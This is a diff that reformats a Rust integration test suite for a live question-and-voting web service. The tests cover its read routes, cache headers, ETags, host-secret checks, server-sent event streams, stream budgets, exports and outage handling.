@@ -11,8 +11,8 @@ use http_body_util::BodyExt;
 use ledger::ports::{EventRow, EventStore, LedgerStore, ProjectionReader, StoreError, StoreResult};
 use ledger::secret::hash_secret;
 use ledger::{Asked, Body as RecordBody, EventId, QuestionId, Record, RecordId, VoterId};
-use ledger_sqlite::{Durability, Options, SqliteStore};
 use ledger_http::ClientAddr;
+use ledger_sqlite::{Durability, Options, SqliteStore};
 use query::{LiveHub, QueryConfig, QueryState};
 use serde_json::{json, Value};
 use tokio::time::Instant;
@@ -41,30 +41,19 @@ impl Reply {
     }
 
     fn header(&self, name: header::HeaderName) -> &str {
-        self.headers
-            .get(&name)
-            .map(|v| v.to_str().unwrap())
-            .unwrap_or("")
+        self.headers.get(&name).map(|v| v.to_str().unwrap()).unwrap_or("")
     }
 }
 
 async fn app() -> App {
-    app_with(QueryConfig {
-        guest_max_age_s: 2,
-        host_max_age_s: 1,
-        ..QueryConfig::default()
-    })
-    .await
+    app_with(QueryConfig { guest_max_age_s: 2, host_max_age_s: 1, ..QueryConfig::default() }).await
 }
 
 async fn app_with(config: QueryConfig) -> App {
     let dir = tempfile::tempdir().unwrap();
     let store = SqliteStore::open(
         dir.path().join("query.db"),
-        Options {
-            durability: Durability::Normal,
-            ..Options::default()
-        },
+        Options { durability: Durability::Normal, ..Options::default() },
     )
     .unwrap();
     let hub = LiveHub::new();
@@ -76,19 +65,12 @@ async fn app_with(config: QueryConfig) -> App {
         metrics: None,
         health: None,
     });
-    App {
-        router,
-        store,
-        hub,
-        ids: ulid::Generator::new(),
-        _dir: dir,
-    }
+    App { router, store, hub, ids: ulid::Generator::new(), _dir: dir }
 }
 
 impl App {
     async fn get(&self, uri: &str) -> Reply {
-        self.get_with(Request::get(uri).body(Body::empty()).unwrap())
-            .await
+        self.get_with(Request::get(uri).body(Body::empty()).unwrap()).await
     }
 
     async fn get_with(&self, request: Request<Body>) -> Reply {
@@ -98,18 +80,11 @@ impl App {
         let bytes = response.into_body().collect().await.unwrap().to_bytes();
         if status.is_client_error() || status.is_server_error() {
             let cache_control = headers[header::CACHE_CONTROL].to_str().unwrap();
-            assert!(
-                cache_control == "no-store" || cache_control == "max-age=5",
-                "{status}: {cache_control}"
-            );
+            assert!(cache_control == "no-store" || cache_control == "max-age=5", "{status}: {cache_control}");
             let error: Value = serde_json::from_slice(&bytes).unwrap();
             assert!(error["error"].is_string(), "{error}");
         }
-        Reply {
-            status,
-            headers,
-            bytes,
-        }
+        Reply { status, headers, bytes }
     }
 
     fn id(&mut self) -> Ulid {
@@ -118,11 +93,7 @@ impl App {
 
     async fn event(&mut self) -> EventId {
         let id = EventId(self.id());
-        let row = EventRow {
-            id,
-            secret_hash: hash_secret(SECRET),
-            expire_unix: u64::MAX / 2,
-        };
+        let row = EventRow { id, secret_hash: hash_secret(SECRET), expire_unix: u64::MAX / 2 };
         self.store.create_event(&row).await.unwrap();
         id
     }
@@ -130,19 +101,13 @@ impl App {
     /// Appends records, folds them as the aggregator would, and announces the change.
     async fn commit(&mut self, event: EventId, records: Vec<Record>) {
         self.store.append(&records).await.unwrap();
-        aggregator::apply_batch(self.store.as_ref(), &records, None)
-            .await
-            .unwrap();
+        aggregator::apply_batch(self.store.as_ref(), &records, None).await.unwrap();
         let _ = self.hub.sender().send(event);
     }
 
     async fn ask(&mut self, event: EventId, text: &str, who: Option<&str>) -> QuestionId {
         let question = QuestionId(self.id());
-        let body = RecordBody::Asked(Asked {
-            text: text.into(),
-            who: who.map(Into::into),
-            voter: VoterId::random(),
-        });
+        let body = RecordBody::Asked(Asked { text: text.into(), who: who.map(Into::into), voter: VoterId::random() });
         let record = self.record(event, question, body);
         self.commit(event, vec![record]).await;
         question
@@ -150,26 +115,12 @@ impl App {
 
     async fn votes(&mut self, event: EventId, question: QuestionId, count: usize) {
         let records = (0..count)
-            .map(|_| {
-                self.record(
-                    event,
-                    question,
-                    RecordBody::Voted {
-                        voter: VoterId::random(),
-                        up: true,
-                    },
-                )
-            })
+            .map(|_| self.record(event, question, RecordBody::Voted { voter: VoterId::random(), up: true }))
             .collect();
         self.commit(event, records).await;
     }
 
-    async fn moderate(
-        &mut self,
-        event: EventId,
-        question: QuestionId,
-        body: RecordBody,
-    ) -> RecordId {
+    async fn moderate(&mut self, event: EventId, question: QuestionId, body: RecordBody) -> RecordId {
         let record = self.record(event, question, body);
         let id = record.id;
         self.commit(event, vec![record]).await;
@@ -177,13 +128,7 @@ impl App {
     }
 
     fn record(&mut self, event: EventId, question: QuestionId, body: RecordBody) -> Record {
-        Record {
-            id: RecordId(self.id()),
-            event,
-            question,
-            region: "test".into(),
-            body,
-        }
+        Record { id: RecordId(self.id()), event, question, region: "test".into(), body }
     }
 }
 
@@ -193,21 +138,11 @@ async fn an_event_exists_or_is_404_or_400() {
     let event = app.event().await;
     let found = app.get(&format!("/api/event/{event}")).await;
     assert_eq!((found.status, found.json()), (StatusCode::OK, json!({})));
-    let missing = app
-        .get(&format!("/api/event/{}", EventId::from_u128(1)))
-        .await;
+    let missing = app.get(&format!("/api/event/{}", EventId::from_u128(1))).await;
     assert_eq!(missing.status, StatusCode::NOT_FOUND);
     assert_eq!(missing.header(header::CACHE_CONTROL), "max-age=5");
-    assert_eq!(
-        app.get("/api/event/zzz").await.status,
-        StatusCode::BAD_REQUEST
-    );
-    assert_eq!(
-        app.get("/api/event/ZZZZZZZZZZZZZZZZZZZZZZZZZZ")
-            .await
-            .status,
-        StatusCode::BAD_REQUEST
-    );
+    assert_eq!(app.get("/api/event/zzz").await.status, StatusCode::BAD_REQUEST);
+    assert_eq!(app.get("/api/event/ZZZZZZZZZZZZZZZZZZZZZZZZZZ").await.status, StatusCode::BAD_REQUEST);
 }
 
 #[tokio::test]
@@ -220,11 +155,8 @@ async fn lists_are_ranked_and_guests_do_not_see_hidden_questions() {
     let answered = app.ask(event, "an answered question", None).await;
     app.votes(event, many, 3).await;
     app.votes(event, hidden, 10).await;
-    app.moderate(event, hidden, RecordBody::Hidden { on: true })
-        .await;
-    let answered_at = app
-        .moderate(event, answered, RecordBody::Answered { on: true })
-        .await;
+    app.moderate(event, hidden, RecordBody::Hidden { on: true }).await;
+    let answered_at = app.moderate(event, answered, RecordBody::Answered { on: true }).await;
 
     let guest = app.get(&format!("/api/event/{event}/questions")).await;
     assert_eq!(guest.status, StatusCode::OK);
@@ -239,47 +171,22 @@ async fn lists_are_ranked_and_guests_do_not_see_hidden_questions() {
         ])
     );
 
-    let host = app
-        .get(&format!("/api/event/{event}/questions/{SECRET}"))
-        .await;
+    let host = app.get(&format!("/api/event/{event}/questions/{SECRET}")).await;
     assert_eq!(host.status, StatusCode::OK);
     assert_eq!(host.header(header::CACHE_CONTROL), "private, max-age=1");
     let host = host.json();
     assert_eq!(host.as_array().unwrap().len(), 4);
-    assert_eq!(
-        host[3],
-        json!({ "qid": hidden.to_string(), "votes": 11, "hidden": true })
-    );
+    assert_eq!(host[3], json!({ "qid": hidden.to_string(), "votes": 11, "hidden": true }));
 
-    let wrong = app
-        .get(&format!("/api/event/{event}/questions/not-the-secret"))
-        .await;
+    let wrong = app.get(&format!("/api/event/{event}/questions/not-the-secret")).await;
     assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
     let unknown = EventId::from_u128(5);
-    assert_eq!(
-        app.get(&format!("/api/event/{unknown}/questions"))
-            .await
-            .status,
-        StatusCode::NOT_FOUND
-    );
-    assert_eq!(
-        app.get(&format!("/api/event/{unknown}/questions/{SECRET}"))
-            .await
-            .status,
-        StatusCode::NOT_FOUND
-    );
-    assert_eq!(
-        app.get("/api/event/x/questions").await.status,
-        StatusCode::BAD_REQUEST
-    );
+    assert_eq!(app.get(&format!("/api/event/{unknown}/questions")).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.get(&format!("/api/event/{unknown}/questions/{SECRET}")).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.get("/api/event/x/questions").await.status, StatusCode::BAD_REQUEST);
 
     let empty = app.event().await;
-    assert_eq!(
-        app.get(&format!("/api/event/{empty}/questions"))
-            .await
-            .json(),
-        json!([])
-    );
+    assert_eq!(app.get(&format!("/api/event/{empty}/questions")).await.json(), json!([]));
 }
 
 #[tokio::test]
@@ -290,26 +197,15 @@ async fn lists_carry_an_etag_that_answers_304_until_the_event_changes() {
     let uri = format!("/api/event/{event}/questions");
     let first = app.get(&uri).await;
     let etag = first.header(header::ETAG).to_owned();
-    assert!(
-        etag.starts_with('"') && etag.len() > 10,
-        "a strong ETag: {etag}"
-    );
+    assert!(etag.starts_with('"') && etag.len() > 10, "a strong ETag: {etag}");
 
-    let conditional = |tag: &str| {
-        Request::get(&uri)
-            .header(header::IF_NONE_MATCH, tag)
-            .body(Body::empty())
-            .unwrap()
-    };
+    let conditional = |tag: &str| Request::get(&uri).header(header::IF_NONE_MATCH, tag).body(Body::empty()).unwrap();
     let not_modified = app.get_with(conditional(&etag)).await;
     assert_eq!(not_modified.status, StatusCode::NOT_MODIFIED);
     assert!(not_modified.bytes.is_empty());
     assert_eq!(not_modified.header(header::ETAG), etag);
     assert_eq!(not_modified.header(header::CACHE_CONTROL), "max-age=2");
-    assert_eq!(
-        app.get_with(conditional("\"stale\"")).await.status,
-        StatusCode::OK
-    );
+    assert_eq!(app.get_with(conditional("\"stale\"")).await.status, StatusCode::OK);
 
     // A change announced by the hub is visible at once, not after the cache's second.
     app.votes(event, question, 1).await;
@@ -340,20 +236,12 @@ async fn without_a_hub_a_cached_list_is_served_for_at_most_a_second() {
         if app.get(&uri).await.json()[0]["votes"] == 3 {
             break;
         }
-        assert!(
-            tokio::time::Instant::now() < deadline,
-            "the list never refreshed"
-        );
+        assert!(tokio::time::Instant::now() < deadline, "the list never refreshed");
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
     // Without a hub there are no live routes.
-    let live = Request::get(format!("/api/live/{event}"))
-        .body(Body::empty())
-        .unwrap();
-    assert_eq!(
-        app.router.clone().oneshot(live).await.unwrap().status(),
-        StatusCode::NOT_FOUND
-    );
+    let live = Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap();
+    assert_eq!(app.router.clone().oneshot(live).await.unwrap().status(), StatusCode::NOT_FOUND);
 }
 
 #[tokio::test]
@@ -365,10 +253,7 @@ async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
 
     let both = app.get(&format!("/api/questions/{a},{b},{a}")).await;
     assert_eq!(both.status, StatusCode::OK);
-    assert_eq!(
-        both.header(header::CACHE_CONTROL),
-        "max-age=864001, immutable"
-    );
+    assert_eq!(both.header(header::CACHE_CONTROL), "max-age=864001, immutable");
     assert_eq!(
         both.json(),
         json!({
@@ -377,37 +262,19 @@ async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
         })
     );
     // Served again from memory, identically.
-    assert_eq!(
-        app.get(&format!("/api/questions/{a},{b}")).await.json(),
-        both.json()
-    );
+    assert_eq!(app.get(&format!("/api/questions/{a},{b}")).await.json(), both.json());
 
     let unknown = QuestionId::from_u128(77);
     let partial = app.get(&format!("/api/questions/{a},{unknown}")).await;
     assert_eq!(partial.status, StatusCode::OK);
     assert_eq!(partial.header(header::CACHE_CONTROL), "max-age=2");
     assert_eq!(partial.json().as_object().unwrap().len(), 1);
-    assert_eq!(
-        app.get(&format!("/api/questions/{unknown}")).await.status,
-        StatusCode::NOT_FOUND
-    );
+    assert_eq!(app.get(&format!("/api/questions/{unknown}")).await.status, StatusCode::NOT_FOUND);
 
     let too_many = vec![a.to_string(); ledger::limits::QUESTION_IDS_PER_REQUEST_MAX + 1].join(",");
-    assert_eq!(
-        app.get(&format!("/api/questions/{too_many}")).await.status,
-        StatusCode::BAD_REQUEST
-    );
-    for bad in [
-        format!("{a},nope"),
-        format!("{a},"),
-        ",".to_owned(),
-        "%FF%FE".to_owned(),
-    ] {
-        assert_eq!(
-            app.get(&format!("/api/questions/{bad}")).await.status,
-            StatusCode::BAD_REQUEST,
-            "{bad}"
-        );
+    assert_eq!(app.get(&format!("/api/questions/{too_many}")).await.status, StatusCode::BAD_REQUEST);
+    for bad in [format!("{a},nope"), format!("{a},"), ",".to_owned(), "%FF%FE".to_owned()] {
+        assert_eq!(app.get(&format!("/api/questions/{bad}")).await.status, StatusCode::BAD_REQUEST, "{bad}");
     }
 }
 
@@ -415,22 +282,15 @@ async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
 async fn exports_every_question_in_three_formats_to_the_host_only() {
     let mut app = app().await;
     let event = app.event().await;
-    let a = app
-        .ask(event, "Commas, \"quotes\" | pipes\nand lines", Some("Ada"))
-        .await;
+    let a = app.ask(event, "Commas, \"quotes\" | pipes\nand lines", Some("Ada")).await;
     let b = app.ask(event, "hidden but exported", None).await;
-    app.moderate(event, b, RecordBody::Hidden { on: true })
-        .await;
-    app.moderate(event, a, RecordBody::Answered { on: true })
-        .await;
+    app.moderate(event, b, RecordBody::Hidden { on: true }).await;
+    app.moderate(event, a, RecordBody::Answered { on: true }).await;
     let base = format!("/api/export/{event}/{SECRET}");
 
     let json_export = app.get(&base).await;
     assert_eq!(json_export.status, StatusCode::OK);
-    assert_eq!(
-        json_export.header(header::CACHE_CONTROL),
-        "private, no-store"
-    );
+    assert_eq!(json_export.header(header::CACHE_CONTROL), "private, no-store");
     assert_eq!(
         json_export.header(header::CONTENT_DISPOSITION),
         format!("attachment; filename=\"questions-{event}.json\"")
@@ -447,24 +307,12 @@ async fn exports_every_question_in_three_formats_to_the_host_only() {
     assert_eq!(app.get(&format!("{base}?format=json")).await.json(), rows);
 
     let csv_export = app.get(&format!("{base}?format=csv")).await;
-    assert!(csv_export
-        .header(header::CONTENT_TYPE)
-        .starts_with("text/csv"));
-    assert!(csv_export
-        .header(header::CONTENT_DISPOSITION)
-        .ends_with(".csv\""));
+    assert!(csv_export.header(header::CONTENT_TYPE).starts_with("text/csv"));
+    assert!(csv_export.header(header::CONTENT_DISPOSITION).ends_with(".csv\""));
     let mut reader = csv::Reader::from_reader(&csv_export.bytes[..]);
     assert_eq!(
         reader.headers().unwrap().iter().collect::<Vec<_>>(),
-        [
-            "qid",
-            "text",
-            "who",
-            "asked_at",
-            "votes",
-            "answered_at",
-            "hidden"
-        ]
+        ["qid", "text", "who", "asked_at", "votes", "answered_at", "hidden"]
     );
     let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     assert_eq!(records.len(), 2);
@@ -472,40 +320,18 @@ async fn exports_every_question_in_three_formats_to_the_host_only() {
     assert_eq!(&records[1][6], "true");
 
     let md_export = app.get(&format!("{base}?format=md")).await;
-    assert!(md_export
-        .header(header::CONTENT_TYPE)
-        .starts_with("text/markdown"));
+    assert!(md_export.header(header::CONTENT_TYPE).starts_with("text/markdown"));
     let md = String::from_utf8(md_export.bytes.to_vec()).unwrap();
     assert_eq!(md.lines().count(), 4, "header, rule, two rows: {md}");
     assert!(md.contains("\\| pipes<br>and lines"), "{md}");
 
-    assert_eq!(
-        app.get(&format!("{base}?format=xml")).await.status,
-        StatusCode::BAD_REQUEST
-    );
-    assert_eq!(
-        app.get(&format!("/api/export/{event}/wrong")).await.status,
-        StatusCode::UNAUTHORIZED
-    );
+    assert_eq!(app.get(&format!("{base}?format=xml")).await.status, StatusCode::BAD_REQUEST);
+    assert_eq!(app.get(&format!("/api/export/{event}/wrong")).await.status, StatusCode::UNAUTHORIZED);
     let unknown = EventId::from_u128(8);
-    assert_eq!(
-        app.get(&format!("/api/export/{unknown}/{SECRET}"))
-            .await
-            .status,
-        StatusCode::NOT_FOUND
-    );
+    assert_eq!(app.get(&format!("/api/export/{unknown}/{SECRET}")).await.status, StatusCode::NOT_FOUND);
     let empty = app.event().await;
-    let csv_empty = app
-        .get(&format!("/api/export/{empty}/{SECRET}?format=csv"))
-        .await;
-    assert_eq!(
-        String::from_utf8(csv_empty.bytes.to_vec())
-            .unwrap()
-            .lines()
-            .count(),
-        1,
-        "just the header"
-    );
+    let csv_empty = app.get(&format!("/api/export/{empty}/{SECRET}?format=csv")).await;
+    assert_eq!(String::from_utf8(csv_empty.bytes.to_vec()).unwrap().lines().count(), 1, "just the header");
 }
 
 /// Reads SSE `data:` payloads from a streaming body until `count` arrived.
@@ -513,10 +339,7 @@ async fn next_data(body: &mut Body, pending: &mut String) -> Value {
     loop {
         if let Some(end) = pending.find("\n\n") {
             let message: String = pending.drain(..end + 2).collect();
-            let data: Vec<&str> = message
-                .lines()
-                .filter_map(|l| l.strip_prefix("data: "))
-                .collect();
+            let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
             if !data.is_empty() {
                 return serde_json::from_str(&data.join("\n")).unwrap();
             }
@@ -541,18 +364,11 @@ async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
     let response = app
         .router
         .clone()
-        .oneshot(
-            Request::get(format!("/api/live/{event}"))
-                .body(Body::empty())
-                .unwrap(),
-        )
+        .oneshot(Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap())
         .await
         .unwrap();
     assert_eq!(response.status(), StatusCode::OK);
-    assert_eq!(
-        response.headers()[header::CONTENT_TYPE],
-        "text/event-stream"
-    );
+    assert_eq!(response.headers()[header::CONTENT_TYPE], "text/event-stream");
     let mut body = response.into_body();
     let mut pending = String::new();
     assert_eq!(next_data(&mut body, &mut pending).await[0]["votes"], 1);
@@ -567,41 +383,22 @@ async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
     }
 
     // Hiding the question pushes (guests lose it).
-    app.moderate(event, question, RecordBody::Hidden { on: true })
-        .await;
+    app.moderate(event, question, RecordBody::Hidden { on: true }).await;
     assert_eq!(next_data(&mut body, &mut pending).await, json!([]));
 
     // The host stream needs the secret and shows hidden questions.
     let host = app
         .router
         .clone()
-        .oneshot(
-            Request::get(format!("/api/live/{event}/{SECRET}"))
-                .body(Body::empty())
-                .unwrap(),
-        )
+        .oneshot(Request::get(format!("/api/live/{event}/{SECRET}")).body(Body::empty()).unwrap())
         .await
         .unwrap();
     let mut host_body = host.into_body();
     let mut host_pending = String::new();
-    assert_eq!(
-        next_data(&mut host_body, &mut host_pending).await[0]["hidden"],
-        true
-    );
-    assert_eq!(
-        app.get(&format!("/api/live/{event}/wrong")).await.status,
-        StatusCode::UNAUTHORIZED
-    );
-    assert_eq!(
-        app.get(&format!("/api/live/{}", EventId::from_u128(4)))
-            .await
-            .status,
-        StatusCode::NOT_FOUND
-    );
-    assert_eq!(
-        app.get("/api/live/bad").await.status,
-        StatusCode::BAD_REQUEST
-    );
+    assert_eq!(next_data(&mut host_body, &mut host_pending).await[0]["hidden"], true);
+    assert_eq!(app.get(&format!("/api/live/{event}/wrong")).await.status, StatusCode::UNAUTHORIZED);
+    assert_eq!(app.get(&format!("/api/live/{}", EventId::from_u128(4))).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.get("/api/live/bad").await.status, StatusCode::BAD_REQUEST);
 }
 
 /// Opens the guest stream of `event` and reads its first push (the list on connect).
@@ -609,11 +406,7 @@ async fn open_live(app: &App, event: EventId) -> (Body, Value) {
     let response = app
         .router
         .clone()
-        .oneshot(
-            Request::get(format!("/api/live/{event}"))
-                .body(Body::empty())
-                .unwrap(),
-        )
+        .oneshot(Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap())
         .await
         .unwrap();
     assert_eq!(response.status(), StatusCode::OK);
@@ -637,10 +430,7 @@ async fn read_until(body: &mut Body, deadline: Instant) -> (String, Vec<(Instant
         while let Some(end) = raw[parsed_to..].find("\n\n") {
             let message = &raw[parsed_to..parsed_to + end];
             parsed_to += end + 2;
-            let data: Vec<&str> = message
-                .lines()
-                .filter_map(|l| l.strip_prefix("data: "))
-                .collect();
+            let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
             if !data.is_empty() {
                 pushes.push((arrived, serde_json::from_str(&data.join("\n")).unwrap()));
             }
@@ -732,11 +522,7 @@ async fn a_burst_of_changes_is_coalesced_into_pushes_at_most_every_100_ms() {
     let window = pushes.last().unwrap().0 - started;
     let bound = window.as_nanos().div_ceil(interval.as_nanos()) + 1;
     let counts: Vec<&Value> = pushes.iter().map(|(_, v)| &v[0]["votes"]).collect();
-    assert!(
-        pushes.len() as u128 <= bound,
-        "{} pushes within {window:?} (at most {bound}): {counts:?}",
-        pushes.len()
-    );
+    assert!(pushes.len() as u128 <= bound, "{} pushes within {window:?} (at most {bound}): {counts:?}", pushes.len());
     assert!((pushes.len() as u64) < CHANGES, "nothing coalesced: {counts:?}");
     // Each push renders the list as it is then: counts never go back, and end on the latest.
     assert!(counts.windows(2).all(|w| w[0].as_u64() <= w[1].as_u64()), "{counts:?}");
@@ -759,21 +545,13 @@ fn live_request(event: EventId, secret: Option<&str>, client: &str) -> Request<B
         Some(secret) => format!("/api/live/{event}/{secret}"),
         None => format!("/api/live/{event}"),
     };
-    Request::get(uri)
-        .extension(ClientAddr(client.parse().unwrap()))
-        .body(Body::empty())
-        .unwrap()
+    Request::get(uri).extension(ClientAddr(client.parse().unwrap())).body(Body::empty()).unwrap()
 }
 
 /// Opens the guest stream of `event` from `client`, which must be accepted, and reads its
 /// first push.
 async fn stream_from(app: &App, event: EventId, client: &str) -> Body {
-    let response = app
-        .router
-        .clone()
-        .oneshot(live_request(event, None, client))
-        .await
-        .unwrap();
+    let response = app.router.clone().oneshot(live_request(event, None, client)).await.unwrap();
     assert_eq!(response.status(), StatusCode::OK, "{client} refused");
     let mut body = response.into_body();
     next_data(&mut body, &mut String::new()).await;
@@ -811,10 +589,7 @@ async fn one_address_over_its_stream_budget_gets_429_while_another_address_is_se
     let mut app = app_with(stream_budgets(2, 100, 100)).await;
     let event = app.event().await;
     app.ask(event, "who is on the stream?", None).await;
-    let mut held = vec![
-        stream_from(&app, event, "127.0.0.2").await,
-        stream_from(&app, event, "127.0.0.2").await,
-    ];
+    let mut held = vec![stream_from(&app, event, "127.0.0.2").await, stream_from(&app, event, "127.0.0.2").await];
     let (status, retry_after, reason) = refused(&app, live_request(event, None, "127.0.0.2")).await;
     assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
     assert_eq!(retry_after, query::STREAM_RETRY_AFTER_S.to_string());
@@ -845,10 +620,7 @@ async fn an_event_over_its_stream_budget_gets_503_while_other_events_are_served(
     let (full, other) = (app.event().await, app.event().await);
     let _a = stream_from(&app, full, "127.0.0.2").await;
     let b = stream_from(&app, full, "127.0.0.3").await;
-    for request in [
-        live_request(full, None, "127.0.0.4"),
-        live_request(full, Some(SECRET), "127.0.0.4"),
-    ] {
+    for request in [live_request(full, None, "127.0.0.4"), live_request(full, Some(SECRET), "127.0.0.4")] {
         let (status, retry_after, reason) = refused(&app, request).await;
         assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
         assert_eq!(retry_after, query::STREAM_RETRY_AFTER_S.to_string());
@@ -881,28 +653,15 @@ async fn the_process_over_its_stream_budget_gets_503_for_everyone() {
 #[tokio::test]
 async fn a_live_stream_ends_when_its_event_expires_and_gives_its_place_back() {
     let mut app = app_with(stream_budgets(1, 1, 1)).await;
-    let now_s = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .unwrap()
-        .as_secs();
+    let now_s = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
     let expiring = EventId(app.id());
     app.store
-        .create_event(&EventRow {
-            id: expiring,
-            secret_hash: hash_secret(SECRET),
-            expire_unix: now_s + 2,
-        })
+        .create_event(&EventRow { id: expiring, secret_hash: hash_secret(SECRET), expire_unix: now_s + 2 })
         .await
         .unwrap();
     let mut body = stream_from(&app, expiring, "127.0.0.2").await;
-    assert!(
-        ends_by(&mut body, Instant::now() + Duration::from_secs(5)).await,
-        "the stream outlived its event"
-    );
-    let ended_ms = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .unwrap()
-        .as_millis();
+    assert!(ends_by(&mut body, Instant::now() + Duration::from_secs(5)).await, "the stream outlived its event");
+    let ended_ms = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis();
     assert!(ended_ms >= u128::from(now_s + 2) * 1_000, "the stream ended before its event expired");
     assert_eq!(app.hub.events_streamed(), 0, "its wake-up channel went with it");
     // Its place is free again (all three budgets are 1), and the event is gone.
@@ -940,10 +699,7 @@ async fn closing_the_hub_ends_every_stream_promptly_and_refuses_new_ones() {
 async fn health_reads_the_store_and_metrics_need_a_recorder() {
     let app = app().await;
     let health = app.get("/healthz").await;
-    assert_eq!(
-        (health.status, health.json()),
-        (StatusCode::OK, json!({ "status": "ok" }))
-    );
+    assert_eq!((health.status, health.json()), (StatusCode::OK, json!({ "status": "ok" })));
     assert_eq!(health.header(header::CACHE_CONTROL), "no-store");
     assert_eq!(app.get("/metrics").await.status, StatusCode::NOT_FOUND);
 
@@ -959,17 +715,10 @@ async fn health_reads_the_store_and_metrics_need_a_recorder() {
     });
     // Record through this recorder only, without touching the process-wide one.
     metrics::with_local_recorder(&recorder, || metrics::counter!("votes_total").increment(3));
-    let response = with_metrics
-        .oneshot(Request::get("/metrics").body(Body::empty()).unwrap())
-        .await
-        .unwrap();
+    let response = with_metrics.oneshot(Request::get("/metrics").body(Body::empty()).unwrap()).await.unwrap();
     assert_eq!(response.status(), StatusCode::OK);
     let text = response.into_body().collect().await.unwrap().to_bytes();
-    assert!(
-        String::from_utf8_lossy(&text).contains("votes_total 3"),
-        "{}",
-        String::from_utf8_lossy(&text)
-    );
+    assert!(String::from_utf8_lossy(&text).contains("votes_total 3"), "{}", String::from_utf8_lossy(&text));
 }
 
 /// A store that is down: every call fails as a real outage would.
@@ -993,10 +742,7 @@ impl ProjectionReader for Down {
     async fn question(&self, _: QuestionId) -> StoreResult<Option<ledger::QuestionCounters>> {
         Err(StoreError::Unavailable("down".into()))
     }
-    async fn question_texts(
-        &self,
-        _: &[QuestionId],
-    ) -> StoreResult<Vec<ledger::ports::QuestionText>> {
+    async fn question_texts(&self, _: &[QuestionId]) -> StoreResult<Vec<ledger::ports::QuestionText>> {
         Err(StoreError::Unavailable("down".into()))
     }
 }
@@ -1023,37 +769,21 @@ async fn a_store_outage_is_a_503_that_nobody_caches() {
         let reply = app.get(&uri).await;
         assert_eq!(reply.status, StatusCode::SERVICE_UNAVAILABLE, "{uri}");
         assert_eq!(reply.header(header::CACHE_CONTROL), "no-store", "{uri}");
-        assert_eq!(
-            reply.json(),
-            json!({ "error": "service unavailable, try again" }),
-            "nothing internal leaks"
-        );
+        assert_eq!(reply.json(), json!({ "error": "service unavailable, try again" }), "nothing internal leaks");
     }
 }
 
 #[tokio::test]
 async fn the_routes_listed_are_the_routes_served() {
     let app = app().await;
-    for (method, path) in query::ROUTES
-        .iter()
-        .chain(query::LIVE_ROUTES)
-        .chain(query::OPS_ROUTES)
-    {
+    for (method, path) in query::ROUTES.iter().chain(query::LIVE_ROUTES).chain(query::OPS_ROUTES) {
         assert_eq!(*method, "GET");
         // Malformed parameters: a served route answers with its own JSON error (or 200).
         let uri = path.replace('{', "x").replace('}', "");
-        let response = app
-            .router
-            .clone()
-            .oneshot(Request::get(&uri).body(Body::empty()).unwrap())
-            .await
-            .unwrap();
+        let response = app.router.clone().oneshot(Request::get(&uri).body(Body::empty()).unwrap()).await.unwrap();
         let status = response.status();
         let bytes = response.into_body().collect().await.unwrap().to_bytes();
-        assert!(
-            !bytes.is_empty() || status == StatusCode::OK,
-            "{path} is not served ({status})"
-        );
+        assert!(!bytes.is_empty() || status == StatusCode::OK, "{path} is not served ({status})");
         if status != StatusCode::OK && *path != "/metrics" {
             assert_eq!(status, StatusCode::BAD_REQUEST, "{path}");
         }
@@ -1110,28 +840,16 @@ mod never_panics {
 async fn an_expired_event_is_unknown_even_while_its_row_lingers() {
     let app = app().await;
     let id = EventId(Ulid::new());
-    let row = EventRow {
-        id,
-        secret_hash: hash_secret(SECRET),
-        expire_unix: 1,
-    };
+    let row = EventRow { id, secret_hash: hash_secret(SECRET), expire_unix: 1 };
     app.store.create_event(&row).await.unwrap();
-    assert_eq!(
-        app.get(&format!("/api/event/{id}")).await.status,
-        StatusCode::NOT_FOUND
-    );
-    assert_eq!(
-        app.get(&format!("/api/event/{id}/questions")).await.status,
-        StatusCode::NOT_FOUND
-    );
+    assert_eq!(app.get(&format!("/api/event/{id}")).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.get(&format!("/api/event/{id}/questions")).await.status, StatusCode::NOT_FOUND);
 }
 
 #[tokio::test]
 async fn a_write_to_a_read_route_is_refused_in_json() {
     let app = app().await;
-    let request = Request::post(format!("/api/event/{}/questions", EventId::from_u128(1)))
-        .body(Body::empty())
-        .unwrap();
+    let request = Request::post(format!("/api/event/{}/questions", EventId::from_u128(1))).body(Body::empty()).unwrap();
     let reply = app.get_with(request).await;
     assert_eq!(reply.status, StatusCode::METHOD_NOT_ALLOWED);
     assert_eq!(reply.json(), json!({ "error": "method not allowed" }));
@@ -1162,21 +880,12 @@ async fn a_stuck_store_is_a_503_after_the_timeout() {
         health: None,
     });
     let started = tokio::time::Instant::now();
-    let response = router
-        .oneshot(Request::get("/healthz").body(Body::empty()).unwrap())
-        .await
-        .unwrap();
+    let response = router.oneshot(Request::get("/healthz").body(Body::empty()).unwrap()).await.unwrap();
     assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
     assert_eq!(response.headers()[header::CACHE_CONTROL], "no-store");
-    assert_eq!(
-        started.elapsed(),
-        Duration::from_millis(query::REQUEST_TIMEOUT_MS)
-    );
+    assert_eq!(started.elapsed(), Duration::from_millis(query::REQUEST_TIMEOUT_MS));
     let body = response.into_body().collect().await.unwrap().to_bytes();
-    assert_eq!(
-        serde_json::from_slice::<Value>(&body).unwrap(),
